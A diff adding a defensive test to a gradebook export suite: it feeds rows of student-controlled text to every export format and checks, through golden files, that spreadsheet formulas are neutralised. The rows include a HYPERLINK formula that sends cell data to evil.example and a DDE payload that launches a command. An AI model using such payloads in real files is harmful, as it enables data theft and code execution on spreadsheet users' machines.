@@ -104,3 +104,20 @@ def test_export_matches_golden(
     name = f"export/{fmt}{'-roster' if with_roster else ''}"
     golden(f"{name}{FILE_EXTENSIONS[fmt]}", out.content)
     golden(f"{name}.notices.txt", notices_text(out.notices, out.rows))
+
+
+HOSTILE_ROWS = (
+    _row('=HYPERLINK("https://evil.example/?"&A1,"open")', '=HYPERLINK("https://evil.example","Doe, Jane")',
+         "@evil.example", "+1-555", "101", "-2+3", 8.5, RowStatus.GRADED, None),
+    _row("@SUM(1+1)*cmd|' /C calc'!A0", "Ann;=1+1 Lee", "a\n-b@example.edu", "\t=S2", None, "\r=u2", -0.0,
+         RowStatus.ERROR, None),
+    _row("-42", "-", "-0", "-3.5", "-42", "-0042", 7.0, RowStatus.GRADED, 1.5 * DAY),
+)
+"""Student-controlled text a spreadsheet would run as a formula, next to numbers (and a lone '-') that must stay."""
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_hostile_text_is_neutralised_in_every_format(fmt: str, golden: Callable[[str, bytes | str], None]) -> None:
+    out = export(HOSTILE_ROWS, fmt, assignment="Lab 3", max_score=10, policy=POLICY)
+    golden(f"export/hostile/{fmt}{FILE_EXTENSIONS[fmt]}", out.content)
+    golden(f"export/hostile/{fmt}.notices.txt", notices_text(out.notices, out.rows))
